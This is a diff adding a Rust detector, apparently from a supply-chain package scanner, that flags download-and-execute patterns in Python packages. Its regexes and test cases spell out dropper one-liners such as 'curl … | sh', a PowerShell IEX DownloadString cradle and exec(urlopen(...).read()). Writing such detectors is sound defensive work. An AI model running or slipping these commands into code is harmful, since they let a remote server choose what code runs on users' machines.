@@ -1,0 +1,228 @@
+//! `execution.download-and-execute`: fetched content is run — `exec(urlopen(…)
+//! .read())`, `exec(requests.get(…).text)`, a download followed within a few lines
+//! by a process start / `os.startfile` / `chmod +x`, or a one-liner string such as
+//! `curl … | sh` or `iex (New-Object Net.WebClient).DownloadString(…)`.
+//!
+//! Python code only for calls; strings for one-liners. Tests are lowered to High,
+//! never skipped: this is the dropper pattern itself.
+
+use super::net_downloads_file::{COMMAND, FETCH_API};
+use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
+use super::sinks::{self, SinkKind};
+use crate::model::{Category, FileRole, Severity};
+use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, TextFile};
+use regex::Regex;
+use std::sync::LazyLock;
+
+pub static META: DetectorMeta = DetectorMeta {
+    id: "execution.download-and-execute",
+    title: "Downloads and executes code.",
+    category: Category::Execution,
+    severity: Severity::Critical,
+    description: "Running code fetched at run or install time is the dropper pattern: what runs is decided by a server, not by the package.",
+};
+
+/// exec/eval whose argument fetches.
+static EXEC_FETCH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?:^|[^.\w])(?P<name>exec|eval)\s*\((?:[^()\n]|\([^()\n]*\))*?(?:urlopen|urlretrieve|requests\.get|requests\.request|httpx\.get|urllib\w*\.request|\.getresponse\()").expect("exec fetch")
+});
+/// Pipes from a downloader into an interpreter, or PowerShell download cradles.
+static PIPE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|'\x22]*\|\s*(?:sudo\s+)?(?:ba|z)?sh(?-u:\b)|(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|'\x22]*\|\s*python[\d.]*(?-u:\b)|(?-u:\b)(?:iex|invoke-expression)(?-u:\b)[^\n]{0,40}(?:downloadstring|invoke-webrequest|iwr)(?-u:\b)|(?-u:\b)downloadstring\s*\([^\n]{0,200}\)\s*\|\s*iex(?-u:\b)").expect("pipe")
+});
+/// Running or making executable what was saved.
+static RUN_SAVED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?-u:\b)os\.(?:startfile|chmod\s*\([^)\n]*0o?7[0-7][0-7])|(?-u:\b)stat\.S_IEXEC(?-u:\b)",
+    )
+    .expect("run saved")
+});
+const WINDOW_LINES: usize = 30;
+/// A new function or class starts: the download and the run are unrelated.
+static NEW_BLOCK: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\n[ \t]*(?:async[ \t]+)?(?:def|class)[ \t]").expect("new block"));
+
+fn line_of(text: &str, off: usize) -> usize {
+    text.as_bytes()[..off]
+        .iter()
+        .filter(|&&b| b == b'\n')
+        .count()
+}
+
+pub struct DownloadExecute;
+
+impl Detector for DownloadExecute {
+    fn meta(&self) -> &'static DetectorMeta {
+        &META
+    }
+    fn literals(&self) -> &'static [&'static str] {
+        &[
+            "urlopen",
+            "urlretrieve",
+            "requests",
+            "httpx",
+            "curl",
+            "wget",
+            "DownloadString",
+            "downloadstring",
+            "DownloadFile",
+            "iex",
+            "IEX",
+            "Invoke-Expression",
+        ]
+    }
+    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
+        if file.role == FileRole::Metadata {
+            return;
+        }
+        let test = file.role == FileRole::TestOrDocs || pysrc::looks_like_test_path(file.path);
+        let sev = Some(if test {
+            Severity::High
+        } else {
+            Severity::Critical
+        });
+        let src = Source::new(file);
+        let mut n = 0;
+        let mut push = |hits: &mut Hits, off: usize, ind: &str| {
+            if n < MAX_HITS_PER_FILE {
+                n += 1;
+                hits.push(
+                    &META,
+                    Hit {
+                        severity: sev,
+                        evidence: pysrc::evidence(file, off, ind),
+                    },
+                );
+            }
+        };
+        for m in PIPE.find_iter(file.text) {
+            if !src.python || src.kind_at(m.start()) == Kind::Str {
+                push(
+                    hits,
+                    m.start(),
+                    m.as_str()
+                        .split_whitespace()
+                        .next()
+                        .unwrap_or("")
+                        .trim_end_matches('('),
+                );
+            }
+        }
+        if !src.python {
+            return;
+        }
+        for c in EXEC_FETCH.captures_iter(file.text) {
+            let name = c.name("name").expect("name");
+            if src.is_code(name.start()) {
+                push(hits, name.start(), &format!("{}(fetched)", name.as_str()));
+            }
+        }
+        // A download, then within a few lines a process start or chmod/startfile of it.
+        // (offset, needs a write in between): response APIs must be written to disk
+        // before they can be run; save APIs and command strings save by themselves.
+        let saves: Vec<(usize, bool)> = FETCH_API
+            .find_iter(file.text)
+            .map(|m| (m.start(), true))
+            .chain(
+                file.text
+                    .match_indices("urlretrieve")
+                    .map(|(i, _)| (i, false)),
+            )
+            .filter(|&(o, _)| src.is_code(o) && !pysrc::is_definition(file.text, o))
+            .chain(
+                COMMAND
+                    .find_iter(file.text)
+                    .map(|m| (m.start(), false))
+                    .filter(|&(o, _)| src.kind_at(o) == Kind::Str),
+            )
+            .collect();
+        if saves.is_empty() {
+            return;
+        }
+        let mut runs: Vec<(usize, String)> = sinks::find(&src, &[SinkKind::Process])
+            .into_iter()
+            .map(|s| (s.offset, s.name.to_string()))
+            .collect();
+        runs.extend(
+            RUN_SAVED
+                .find_iter(file.text)
+                .filter(|m| src.is_code(m.start()))
+                .map(|m| {
+                    (
+                        m.start(),
+                        m.as_str()
+                            .split('(')
+                            .next()
+                            .unwrap_or("")
+                            .trim()
+                            .to_string(),
+                    )
+                }),
+        );
+        runs.sort();
+        for (off, name) in runs {
+            let l = line_of(file.text, off);
+            let follows = |&(s, needs_write): &(usize, bool)| {
+                if s >= off {
+                    return false;
+                }
+                let between = &file.text[s..off];
+                l - line_of(file.text, s) <= WINDOW_LINES
+                    && !NEW_BLOCK
+                        .find_iter(between)
+                        .any(|m| src.is_code(s + m.end() - 1))
+                    && (!needs_write
+                        || super::net_downloads_file::WRITE
+                            .find_iter(between)
+                            .any(|m| src.is_code(s + m.start())))
+            };
+            if saves.iter().any(follows) {
+                push(hits, off, &format!("download then {name}"));
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::scan::detectors::testutil::table;
+    use FileRole::*;
+    use Severity::*;
+
+    #[test]
+    fn cases() {
+        table(
+            &DownloadExecute,
+            META.id,
+            &[
+                ("exec urlopen", "setup.py", InstallTime, "from urllib.request import urlopen\nexec(urlopen('http://example.org/p').read())\n", Some((2, "exec(fetched)", Critical))),
+                ("exec requests text", "pkg/a.py", Runtime, "import requests\nexec(requests.get(U).text)\n", Some((2, "exec(fetched)", Critical))),
+                ("curl pipe sh", "pkg/a.py", Runtime, "os.system('curl -fsSL https://example.org/i.sh | sh')\n", Some((1, "curl", Critical))),
+                ("powershell cradle", "pkg/a.py", Runtime, "c = \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"\n", Some((1, "IEX", Critical))),
+                (
+                    "save then run",
+                    "pkg/a.py",
+                    Runtime,
+                    "urlretrieve(U, p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n",
+                    Some((2, "download then os.chmod", Critical)),
+                ),
+                ("install script in shell file", "pkg/i.sh", Runtime, "curl https://example.org/x | bash\n", Some((1, "curl", Critical))),
+                ("fetch and process far apart", "pkg/a.py", Runtime, FAR.as_str(), None),
+                ("json api then eval-free", "pkg/a.py", Runtime, "r = requests.get(u)\ndata = r.json()\n", None),
+                ("one-liner in docstring", "pkg/a.py", Runtime, "\"\"\"Install: curl https://x | sh\"\"\"\n", None),
+                ("exec of local version file", "setup.py", InstallTime, "exec(open('pkg/version.py').read())\n", None),
+                ("fetch name in a string then process", "pkg/a.py", Runtime, "code = \x27import urllib.request; urllib.request.urlopen(u)\x27\nsubprocess.Popen([sys.executable, \x27-c\x27, code])\n", None),
+                ("urlopen HEAD then a process in another function", "pkg/a.py", Runtime, "def a():\n    with urlopen(req) as d:\n        code = d.getcode()\n\ndef b():\n    subprocess.Popen([x])\n", None),
+                ("response written then run", "pkg/a.py", Runtime, "r = requests.get(U)\nopen(p, \x27wb\x27).write(r.content)\nsubprocess.call([p])\n", Some((3, "download then subprocess.call", Critical))),
+            ],
+        );
+    }
+
+    static FAR: LazyLock<String> = LazyLock::new(|| {
+        format!(
+            "r = requests.get(u)\n{}subprocess.run(['git', 'status'])\n",
+            "x = 1\n".repeat(40)
+        )
+    });
+}
